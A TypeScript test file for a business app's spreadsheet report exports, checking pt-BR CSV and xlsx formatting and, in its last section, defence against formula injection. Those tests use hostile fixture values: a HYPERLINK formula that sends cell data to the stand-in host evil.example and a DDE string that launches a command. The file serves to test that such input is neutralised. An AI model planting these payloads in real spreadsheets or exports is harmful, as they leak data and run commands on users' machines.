/**
 * The exported files opened back: the xlsx with read-excel-file (sheet 'Report', columns in
 * order, money as numbers, dates as dates), the csv with papaparse (the same rows).
 */
import { describe, expect, test } from 'vitest';
import Papa from 'papaparse';
import { strFromU8, unzipSync } from 'fflate';
import readXlsxFile from 'read-excel-file/universal';
import {
  FINANCIAL_HEADERS,
  STOCK_HEADERS,
  campaignExport,
  cellText,
  customerExport,
  customerRows,
  financialExport,
  prepareTransactions,
  REACTIVATION_TEMPLATE,
  stockExport,
  stockRows,
} from '../../../src/domain/reports';
import { tableToCsvText, tableToFile, tableToXlsx } from '../../../src/features/reports/export/files';
import { tx } from './fixtures';

const TODAY = '2026-03-20';
const txs = prepareTransactions(
  [
    tx({ id: 'a', type: 'entrada', amount: 0.1, at: '2026-03-02T12:00:00.000Z', payment_method: 'pix', payment_status: 'pago' }),
    tx({ id: 'b', type: 'entrada', amount: 1234.5, at: '2026-04-01T02:30:00.000Z', payment_method: 'cartao', payment_status: 'pendente', due_date: '2026-03-01' }),
    tx({ id: 'c', type: 'despesas', category: 'equipamentos', amount: 0.2, at: '2026-03-05T12:00:00.000Z', payment_method: 'n/a', payment_status: 'pendente' }),
  ],
  TODAY,
);

async function readBack(blob: Blob) {
  const sheets = await readXlsxFile(blob);
  return sheets;
}

describe('financial export', () => {
  const table = financialExport(txs, TODAY);

  test('file name, sheet and pt-BR columns; newest first', () => {
    expect(table.fileBase).toBe('relatorio-financeiro-2026-03-20');
    expect(table.headers).toEqual(['Data', 'Tipo', 'Categoria', 'Valor', 'Status', 'Método de Pagamento']);
    expect(table.rows.map((r) => r[1])).toEqual([
      { kind: 'text', value: 'Entrada' },
      { kind: 'text', value: 'Despesa Fixa' },
      { kind: 'text', value: 'Entrada' },
    ]);
  });

  test('xlsx opened back: sheet Report, columns in order, money as numbers, dates as dates', async () => {
    const sheets = await readBack(await tableToXlsx(table));
    expect(sheets).toHaveLength(1);
    expect(sheets[0].sheet).toBe('Report');
    const [header, ...rows] = sheets[0].data;
    expect(header).toEqual(FINANCIAL_HEADERS);
    expect(rows).toHaveLength(3);
    // 31/03 23:30 in São Paulo is dated 31/03, the overdue pendente shows Atrasado.
    expect(rows[0]).toEqual([new Date(Date.UTC(2026, 2, 31)), 'Entrada', 'Receita', 1234.5, 'Atrasado', 'Cartão']);
    expect(rows[1]).toEqual([new Date(Date.UTC(2026, 2, 5)), 'Despesa Fixa', 'Equipamentos Pesados', 0.2, 'Pendente', 'N/A']);
    expect(rows[2][3]).toBe(0.1);
    expect(typeof rows[2][3]).toBe('number');
    // A spreadsheet summing the column gets the exact total.
    expect(rows.reduce((s, r) => s + Math.round((r[3] as number) * 100), 0)).toBe(123480);
  });

  test('csv parses back with papaparse to the same rows (pt-BR: ";" and decimal comma)', async () => {
    const csv = await tableToCsvText(table);
    const parsed = Papa.parse<string[]>(csv, { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toEqual([
      FINANCIAL_HEADERS,
      ['31/03/2026', 'Entrada', 'Receita', '1234,50', 'Atrasado', 'Cartão'],
      ['05/03/2026', 'Despesa Fixa', 'Equipamentos Pesados', '0,20', 'Pendente', 'N/A'],
      ['02/03/2026', 'Entrada', 'Receita', '0,10', 'Pago', 'PIX'],
    ]);
    const file = await tableToFile(table, 'csv');
    expect(file.name).toBe('relatorio-financeiro-2026-03-20.csv');
    // UTF-8 BOM first, so Excel opens the accents right.
    const bytes = new Uint8Array(await file.blob.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });
});

describe('csv as text (what Excel pt-BR opens)', () => {
  test('the file byte for byte: BOM, ";" between columns, decimal comma, dd/MM/yyyy, CRLF', async () => {
    const table = financialExport(
      prepareTransactions(
        [
          tx({ id: 'x', type: 'entrada', amount: 19.99, at: '2026-03-10T12:00:00.000Z', payment_method: 'pix', payment_status: 'pago' }),
          tx({ id: 'y', type: 'despesas', category: 'equipamentos', amount: 0.07, at: '2026-03-09T12:00:00.000Z', payment_method: 'n/a', payment_status: 'pendente' }),
          tx({ id: 'z', type: 'entrada', amount: 1234.5, at: '2026-03-08T12:00:00.000Z', payment_method: 'cartao', payment_status: 'pago' }),
        ],
        TODAY,
      ),
      TODAY,
    );
    const lines = [
      'Data;Tipo;Categoria;Valor;Status;Método de Pagamento',
      '10/03/2026;Entrada;Receita;19,99;Pago;PIX',
      '09/03/2026;Despesa Fixa;Equipamentos Pesados;0,07;Pendente;N/A',
      '08/03/2026;Entrada;Receita;1234,50;Pago;Cartão',
    ];
    expect(await tableToCsvText(table)).toBe(lines.join('\r\n'));
    const file = await tableToFile(table, 'csv');
    const bytes = new Uint8Array(await file.blob.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect(text).toBe(`\ufeff${lines.join('\r\n')}`);
    expect(text.split('\r\n')[0]).toBe('\ufeffData;Tipo;Categoria;Valor;Status;Método de Pagamento');
    expect(file.blob.type).toBe('text/csv;charset=utf-8');
  });

  test('money cells as the csv writes them: comma, two decimals, no float tails', () => {
    const cents = prepareTransactions([19.99, 0.07, 8.2, 0.1, 1234.5, -3.35].map((amount) => tx({ amount })), TODAY).map((t) => t.cents);
    expect(cents.map((c) => cellText({ kind: 'money', cents: c }))).toEqual(['19,99', '0,07', '8,20', '0,10', '1234,50', '-3,35']);
  });
});

describe('stock, customer and campaign exports', () => {
  test('stock rows with the §3 labels and N/A', async () => {
    const rows = stockRows(
      [{ id: 's', category_id: 'c', type_id: 't', material_id: 'gone', thickness_id: 'th', dimension_id: 'd', minimum_quantity: 5, description: null }],
      [{ stock_item_id: 's', delta: 12 }],
      [
        { id: 'c', kind: 'category', name: 'Tubos Metálicos' },
        { id: 't', kind: 'type', name: 'Tubo Redondo' },
        { id: 'th', kind: 'thickness', name: '2', value: 2, unit: 'mm' },
        { id: 'd', kind: 'dimension', name: '3000 mm' },
      ],
    );
    const table = stockExport(rows, TODAY);
    expect(table.fileBase).toBe('relatorio-estoque-2026-03-20');
    const sheets = await readBack(await tableToXlsx(table));
    expect(sheets[0].sheet).toBe('Report');
    expect(sheets[0].data).toEqual([STOCK_HEADERS, ['Tubos Metálicos', 'Tubo Redondo', 'N/A', '2 mm', '3000 mm', 12, 5, 'N/A']]);
  });

  test('customer list with status, total, last purchase and amount overdue', async () => {
    const rows = customerRows([{ id: 'x', name: 'Zé da Solda', phone: '(35) 99999-1111' }], prepareTransactions([tx({ customer_id: 'x', amount: 80, payment_status: 'pendente', due_date: '2026-03-01', at: '2026-02-20T12:00:00.000Z' })], TODAY), TODAY);
    const table = customerExport(rows, TODAY);
    expect(table.fileBase).toBe('relatorio-clientes-2026-03-20');
    const csv = Papa.parse<string[]>(await tableToCsvText(table), { skipEmptyLines: true }).data;
    expect(csv).toEqual([
      ['Nome', 'Telefone', 'Status', 'Total Gasto', 'Quantidade de Compras', 'Última Compra', 'Valor em Atraso'],
      ['Zé da Solda', '(35) 99999-1111', 'Inadimplente', '80,00', '1', '20/02/2026', '80,00'],
    ]);
    const campaign = campaignExport(rows, REACTIVATION_TEMPLATE, 'campanha-reativacao-2026-03-20');
    const link = campaign.rows[0][4];
    expect(link).toMatchObject({ kind: 'text' });
    expect((link as { value: string }).value.startsWith('https://wa.me/5535999991111?text=Ol%C3%A1%20Z%C3%A9')).toBe(true);
  });
});

describe('formula injection (issue 40 §1): what staff typed never runs in the spreadsheet', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Clique")';
  const CMD = "+cmd|' /C calc'!A0";

  test('csv: text cells starting with = + - @ tab or CR get a leading apostrophe; numbers, money and dates stay as they are', async () => {
    const customers = customerRows(
      [{ id: 'x', name: HYPERLINK, phone: CMD }],
      prepareTransactions([tx({ customer_id: 'x', amount: 80, payment_status: 'pendente', due_date: '2026-03-01', at: '2026-02-20T12:00:00.000Z' })], TODAY),
      TODAY,
    );
    const csv = Papa.parse<string[]>(await tableToCsvText(customerExport(customers, TODAY)), { skipEmptyLines: true }).data;
    expect(csv[1]).toEqual([`'${HYPERLINK}`, `'${CMD}`, 'Inadimplente', '80,00', '1', '20/02/2026', '80,00']);

    const campaign = Papa.parse<string[]>(await tableToCsvText(campaignExport(customers, '@{nome}', 'campanha')), { skipEmptyLines: true }).data;
    expect(campaign[1][0]).toBe(`'${HYPERLINK}`);
    expect(campaign[1][5].startsWith("'@")).toBe(true);

    const stock = stockExport(
      stockRows(
        [{ id: 's', category_id: 'c', type_id: 't', material_id: 'm', thickness_id: 'th', dimension_id: 'd', minimum_quantity: 5, description: '-2+3+cmd|\' /C calc\'!A0' }],
        [{ stock_item_id: 's', delta: -4 }],
        [
          { id: 'c', kind: 'category', name: '@SUM(1+1)' },
          { id: 't', kind: 'type', name: '\t=1+1' },
          { id: 'm', kind: 'material', name: '\r=1+1' },
          { id: 'th', kind: 'thickness', name: '2', value: 2, unit: 'mm' },
          { id: 'd', kind: 'dimension', name: 'Barra 6 m' },
        ],
      ),
      TODAY,
    );
    const stockCsv = Papa.parse<string[]>(await tableToCsvText(stock), { skipEmptyLines: true }).data;
    // The quantity -4 is a number the spreadsheet sums: no apostrophe.
    expect(stockCsv[1]).toEqual(["'@SUM(1+1)", "'\t=1+1", "'\r=1+1", '2 mm', 'Barra 6 m', '-4', '5', "'-2+3+cmd|' /C calc'!A0"]);
    // Plain text stays untouched.
    expect(cellText({ kind: 'text', value: 'Zé da Solda' })).toBe('Zé da Solda');
    expect(cellText({ kind: 'money', cents: -335 })).toBe('-3,35');
    expect(cellText({ kind: 'number', value: -4 })).toBe('-4');
  });

  test('xlsx: the same text is a string cell, never a formula', async () => {
    const customers = customerRows([{ id: 'x', name: HYPERLINK, phone: CMD }], [], TODAY);
    const blob = await tableToXlsx(customerExport(customers, TODAY));
    const files = unzipSync(new Uint8Array(await blob.arrayBuffer()));
    const sheet = strFromU8(files['xl/worksheets/sheet1.xml']);
    expect(sheet).not.toMatch(/<f[\s>]/);
    // A shared or inline string; never t="str" (a formula's cached text).
    expect(sheet).toMatch(/<c r="A2"[^>]* t="(s|inlineStr)"/);
    expect(sheet).toMatch(/<c r="B2"[^>]* t="(s|inlineStr)"/);
    const [{ data }] = await readXlsxFile(blob);
    expect(data[1].slice(0, 2)).toEqual([HYPERLINK, CMD]);
  });
});
